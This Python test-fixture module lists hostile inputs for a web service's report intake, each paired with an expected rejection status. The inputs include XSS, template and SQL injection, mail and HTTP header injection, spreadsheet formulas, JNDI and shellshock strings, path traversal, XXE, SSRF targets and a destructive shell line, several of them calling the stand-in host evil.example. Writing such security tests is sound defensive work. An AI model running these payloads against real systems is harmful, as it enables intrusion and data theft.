"""Hostile inputs: what is tried in each field that a stranger can fill in.

Each has a name that says what it is after. `TEXTS` go into every field of a report that takes any
text; the others are for fields, headers and bodies that have a form of their own.
"""

from dataclasses import dataclass

EVIL = "https://evil.example/x"

#: For the quote, its surroundings, the correction, the comment, the title, and searches.
TEXTS = {
    # Markup, as it would leave a text, an attribute, a comment, a script, a title, a style.
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script unclosed": "<script src=//evil.example",
    "image": "<img src=x onerror=alert(1)>",
    "image with slashes": "<img/src/onerror=alert(1)>",
    "image within noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "svg": "<svg/onload=alert(1)>",
    "svg animates": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg use": "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "attribute, double": '" autofocus onfocus=alert(1) x="',
    "attribute, single": "' onmouseover='alert(1)",
    "attribute, bare": "x onmouseover=alert(1) y",
    "attribute, backtick": "` onmouseover=alert(1) `",
    "closes all": "--></style></title></textarea></script></q></mark><svg onload=alert(1)>",
    "comment": "<!--<img src=--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "cdata ends": "]]><script>alert(1)</script>",
    "iframe": "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "object": "<object data=javascript:alert(1)>",
    "form": "<form action=//evil.example><input name=password><button>Sign in",
    "button": "<button formaction=//evil.example form=decide>Accept",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "base": "<base href=//evil.example/>",
    "style": "<style>@import '//evil.example/x.css'</style>",
    "style attribute": "<p style=position:fixed;inset:0;background:red>",
    "link": f"<a href='{EVIL}'>Sign in again</a>",
    "link that runs": "<a href=javascript:alert(1)>x</a>",
    "link that runs, hidden": "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "id clobbers": "<a id=defaultView><a id=defaultView name=x><input name=csrf_token value=1>",
    "template element": "<template><script>alert(1)</script></template>",
    "shadow": "<div><template shadowrootmode=open><script>alert(1)</script>",
    "popover": "<p popover id=p>x<button popovertarget=p>y",
    "dialog": "<dialog open>Your sign-in has ended</dialog>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "entity, half": "&#x3c;script&#x3e &amp &lt &notit; &#0; &#xd800; &#x110000;",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong": "\u00c0\u00bcscript\u00c0\u00be",
    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "processing": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "xinclude": '<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd"/>',
    # Templates, formats, shells, paths.
    "jinja": "{{ 111*111111 }}{% print(111*111111) %}{# x #}",
    "jinja reads": "{{ config.SECRET_KEY }}{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "other templates": "${111*111111} #{111*111111} <%= 111*111111 %> [[111*111111]] *{7*7}",
    "percent": "%s %d %n %(site)s %(count)d %",
    "braces": "{0.__class__} {site.__init__.__globals__} {} }{",
    "shell": "$(touch /tmp/x) `id` ; rm -rf / | cat && true",
    "jndi": "${jndi:ldap://evil.example/a}",
    "path": "../../../../etc/passwd",
    # Lines that begin something in mail, in HTTP, in a log.
    "mail header": "x\r\nBcc: evil@evil.example\r\nSubject: y",
    "mail body": "x\r\n\r\n<b>y</b>\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "mail encoded": "=?utf-8?q?x=0D=0ABcc:evil@evil.example?=",
    "mail boundary": "--===============\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "mail link": "Accept: https://evil.example/act www.evil.example me@evil.example tel:+49301234",
    "http splitting": "x\r\nSet-Cookie: a=b\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "http, encoded": "%0d%0aSet-Cookie:a=b",
    "http, wide": "\u560d\u560aSet-Cookie:a=b",
    "log line": "x\n2026-01-01 00:00:00,000 ERROR feedback: all is lost",
    "log escape": "\x1b[2J\x1b]0;x\x07\x1b[31mred",
    "log, other breaks": "x\x0by\x0cz\x1c\x1d\x1e\x85\u2028\u2029end",
    "log backspace": "good\x08\x08\x08\x08evil\x7f\x9b31m",
    # What a table's program reckons.
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula, plus": "+cmd|' /C calc'!A0",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula, tab": "\t=1+1",
    "formula, quoted": '",=1+1,"',
    # What chats read.
    "mentions": "@everyone @here @room <!channel> <!here> <@U123> <@&1> <users/all>",
    "slack link": f"<{EVIL}|paper.example>",
    "markdown link": f"[paper.example]({EVIL}) ![x]({EVIL}.png) <{EVIL}>",
    "markdown": "*b* _i_ ~s~ `c` **b** __u__ ~~s~~ ||x|| > q\n# h\n- l\n```\ncode",
    "emoji and tags": ":smile: #tag $CASH /remind me",
    "teams": '<at id="0">Ed</at> {"type":"Action.OpenUrl"}',
    "matrix": "<mx-reply><blockquote>x</blockquote></mx-reply>@ed:evil.example",
    # What a database or its full-text search reads.
    "sql": "'; DROP TABLE report; --",
    "sql, true": "' OR '1'='1' /*",
    "sql, union": "\") UNION SELECT password FROM editor -- ",
    "sql, backslash": "\\'; SELECT pg_sleep(9)--",
    "like": "%_\\%",
    "fts5": '"unbalanced AND (x OR NEAR(a b, 2) NOT exact:y* ^z',
    "fts5, column": "exact : x + {comment} - y",
    "tsquery": "a & | ! <-> :* ('x",
    "json path": '$.x ? (@ like_regex "(a+)+$")',
    "null byte, written": "%00 \\0 \\u0000 &#0;",
    # Letters that are not what they seem.
    "bidi override": "\u202egpj.exe\u202c",
    "bidi unbalanced": "\u202e\u2067\u2066\u202b never ended",
    "bidi ends": "\u202c\u2069\u2069\u2069 out of the box",
    "bidi marks": "\u200f\u061c\u200eabc\u05d0\u05d1",
    "zalgo": "Z" + "\u0351\u0363\u0303\u0358\u036b" * 12 + "algo",
    "zero width": "a\u200bd\u200cm\u200di\u2060n\ufeff",
    "only invisible": "x\u2061\u2062\u2063\u2064\u180e\u034f",
    "tags": "x" + "".join(chr(0xE0000 + ord(letter)) for letter in "alert"),
    "variation": "x\ufe0f\ufe0e\U000e0100",
    "homographs": "p\u0430per.ex\u0430mple",
    "non-characters": "x\ufffe\uffff\U0001fffe\U0010ffff",
    "private": "x\ue000\uf8ff\U000f0000",
    "replacement": "\ufffd\ufffc",
    "controls": "x" + "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "black dot": "\u200e\U0001f3f4\u200d\u2620\ufe0f\u06e5" * 3,
    "cased apart": "\u0130\u0131\u017f\u212a\ufb01\u1e9e\u00df",
    "wide": "\ufdfd\U00012031\u2e3b\u102a",
    "hangul filler": "x\u3164\uffa0\u115f",
    "line that never ends": "x" * 64,
    "spaces": "x" + "\u00a0\u3000\u2003" * 20 + "y",
    "combining first": "\u0301\u20dd\u0489abc",
    "joined family": "👩\u200d👩\u200d👧\u200d👦" * 4,
    "regex": "(a+)+$ [[:alpha:]] (?R) \\p{L}{9999}",
}  # fmt: skip

#: Much of it: longer than any page shows, as long as a field takes.
LONG = {
    "long word": "w" * 2000,
    "long markup": "<b>" * 666,
    "long marks": "a" + "\u0301" * 1999,
    "long quotes": '"' * 2000,
    "long lines": "x" + "\n" * 1998 + "y",
    "long emoji": "👩\u200d👧" * 600,
}


@dataclass(frozen=True)
class Odd:
    """A value for a field with a form of its own: what the intake answers, and names."""

    value: object
    status: int = 201
    named: str = ""


#: The address of the page.
ADDRESSES = {
    "script in the path": Odd("https://paper.example/a/<script>alert(1)</script>"),
    "quotes in the query": Odd("https://paper.example/a?q=\"><svg/onload=alert(1)>'"),
    "script in the fragment": Odd("https://paper.example/b#<script>alert(1)</script>"),
    "braces": Odd("https://paper.example/a/{{111*111111}}/%7B%7B111*111111%7D%7D"),
    "encoded lines": Odd("https://paper.example/a%0d%0aX-Evil:%201"),
    "dots": Odd("https://paper.example/../../etc/passwd"),
    "mention": Odd("https://paper.example/a/@everyone/<!channel>/*b*"),
    "bidi": Odd("https://paper.example/a/\u202egpj.exe"),
    "formula": Odd("https://paper.example/=HYPERLINK(1)"),
    "javascript": Odd("javascript:alert(1)//https://paper.example/", 422, "url"),
    "data": Odd("data:text/html,<script>alert(1)</script>", 422, "url"),
    "file": Odd("file:///etc/passwd", 422, "url"),
    "two hosts": Odd("https://paper.example\\@evil.example/", 422, "url"),
    "user name": Odd("https://paper.example@evil.example/", 422, "url"),
    "a line": Odd("https://paper.example/\r\nX-Evil: 1", 422, "url"),
    "a tab": Odd("https://paper.ex\tample/", 422, "url"),
    "NUL": Odd("https://paper.example/\0", 422, "url"),
    "half a pair": Odd("https://paper.example/\ud800", 422, "url"),
    "loopback in disguise": Odd("http://0x7f.1/", 422, "url"),
    "no host": Odd("https:///paper.example", 422, "url"),
    "metadata": Odd("http://169.254.169.254/latest/", 403),
    "homograph": Odd("https://p\u0430per.example/", 403),
    "longer name": Odd("https://paper.example.evil.example/", 403),
    "other port": Odd("https://paper.example:22/", 403),
    "far too long": Odd("https://paper.example/" + "a" * 9000, 422, "url"),
}

#: The language that the page says it is in.
LANGUAGES = {
    "attribute": Odd('en"><script>alert(1)</script>'),
    "header": Odd("en\r\nX-Evil: 1"),
    "path": Odd("../../../../etc/passwd"),
    "template": Odd("{{111*111111}}"),
    "no tag": Odd("x-\u202e-\x07"),
    "NUL": Odd("en\0", 422, "lang"),
    "long": Odd("e" * 65, 422, "lang"),
}

#: The reader's e-mail address: it is written to.
MAILBOXES = {
    "two": Odd("ann@reader.example, evil@evil.example", 422, "email"),
    "header": Odd("ann@reader.example\r\nBcc: evil@evil.example", 422, "email"),
    "named": Odd("Ann <ann@reader.example>", 422, "email"),
    "quoted": Odd('"a b"@reader.example', 422, "email"),
    "route": Odd("@evil.example:ann@reader.example", 422, "email"),
    "NUL": Odd("ann@reader.example\0", 422, "email"),
    "long": Odd("a" * 300 + "@reader.example", 422, "email"),
    "percent": Odd("ann%evil.example@reader.example"),
    "formula": Odd("=1+1@reader.example"),
    "shell": Odd("`id`$(id)|x@reader.example", 422, "email"),
    "encoded": Odd("=?utf-8?q?x=0ABcc=3Ay?=@reader.example"),
}

KINDS = {
    "markup": Odd("<b>", 422, "kind"),
    "made up": Odd("admin", 422, "kind"),
    "in capitals": Odd("TYPO", 422, "kind"),
    "list": Odd(["typo"], 422, "kind"),
    "number": Odd(1, 422, "kind"),
}

#: The image or link that a report is about.
SUBJECTS = {
    "link that runs": Odd({"type": "link", "text": "<b>x</b>", "url": "javascript:alert(1)"}),
    "image that runs": Odd({"type": "image", "text": "x", "url": "data:text/html,<script>"}),
    "image of others": Odd({"type": "image", "text": '" onerror=alert(1) x="', "url": EVIL}),
    "made up": Odd({"type": "script", "text": "x", "url": ""}, 422, "about.type"),
    "NUL": Odd({"type": "link", "text": "\0", "url": ""}, 422, "about.text"),
}  # fmt: skip

#: Whole bodies, and what comes of them: nothing that is kept.
BODIES: dict[str, tuple[bytes, int]] = {
    "nothing": (b"", 400),
    "deep lists": (b"[" * 16_000 + b"]" * 16_000, 400),
    "deep objects": (b'{"a":' * 5_000 + b"1" + b"}" * 5_000, 400),
    "long number": (b'{"id":' + b"9" * 20_000 + b"}", 400),
    "huge exponent": (b'{"id":1e999999}', 422),
    "not a number": (b'{"id":NaN}', 400),
    "key twice": (b'{"id":1,"id":2}', 400),
    "utf-16": ('{"id":1}'.encode("utf-16"), 400),
    "broken utf-8": (b'{"id":"\xff\xc0\xaf"}', 400),
    "surrogates in utf-8": (b'{"id":"\xed\xa0\x80"}', 400),
    "prototype": (b'{"__proto__":{"admin":true},"constructor":{}}', 422),
    "form": (b"id=1&url=https%3A%2F%2Fpaper.example", 400),
    "xml": (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>', 400),
    "pickle": (b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x01x\x94.", 400),
    "yaml": (b"!!python/object/apply:os.system ['id']", 400),
    "gzip": (b"\x1f\x8b\x08\x00\x00\x00\x00\x00", 400),
    "too much": (b" " * (32 * 1024 + 1), 413),
}

#: Browsers that sign in: what they call themselves is shown to their editor.
AGENTS = {
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover=alert(1) x='",
    "template": "{{ 111*111111 }}",
    "shellshock": "() { :; }; /bin/id",
    "jndi": "${jndi:ldap://evil.example/a}",
    "bytes": "Mozilla/5.0 \xff\xfe\x80 (\xe2\x80\xae)",
    "escape": "Mozilla\x1b[31m",
    "long": "Mozilla/5.0 " + "(" * 4000,
}

#: Pages that are fetched: the text is the article's, the rest says what it is.
PAGES = {
    "script in what it says": (
        '<title>x</title><body><p>The <b>"&gt;&lt;script&gt;alert(1)&lt;/script&gt;</b> is round.'
    ),
    "title": "<title>&lt;img src=x onerror=alert(1)&gt;{{111*111111}}</title><p>The wrold",
    "author": (
        '<title>x</title><meta name=author content="&lt;svg/onload=alert(1)&gt;&#13;&#10;Bcc: a@b">'
        "<p>The wrold is round."
    ),
    "section": (
        '<title>x</title><meta property="article:section" content="\'&gt;&lt;script&gt;alert(1)">'
        "<p>The wrold is round."
    ),
    "language": "<html lang='en\"><script>alert(1)</script>'><title>x</title><p>The wrold",
    "canonical": (
        "<link rel=canonical href='javascript:alert(1)'><title>x</title><p>The wrold is round."
    ),
    "canonical of others": f"<link rel=canonical href='{EVIL}'><title>x</title><p>The wrold",
    "linked data": (
        '<script type="application/ld+json">{"@type": "NewsArticle", "headline": '
        '"</scr" , "author": {"name": "<img src=x onerror=alert(1)>"}}</script><p>The wrold is'
    ),
    "linked data, deep": (
        '<script type="application/ld+json">' + "[" * 5000 + "</script><p>The wrold is round."
    ),
    "controls": "<title>a&#1;b&#8;c&#xfffe;</title><p>The wr&#11;old &#x202e;is round.",
    "frames": "<iframe src=//evil.example></iframe><frameset><p>The wrold is round.",
    "deep": "<div>" * 3000 + "The wrold is round.",
    "NUL": "<title>a\0b</title><p>The wr\0old is round.",
}

#: What readers' text is tried with, one name a text.
EVERYWHERE = TEXTS | LONG
#: All of them, by the field they are for.
FIELDS: dict[str, dict[str, object]] = {
    "text": {**EVERYWHERE},
    "address": {**ADDRESSES},
    "language": {**LANGUAGES},
    "e-mail": {**MAILBOXES},
    "kind": {**KINDS},
    "about": {**SUBJECTS},
    "body": {**BODIES},
    "user agent": {**AGENTS},
    "page": {**PAGES},
}
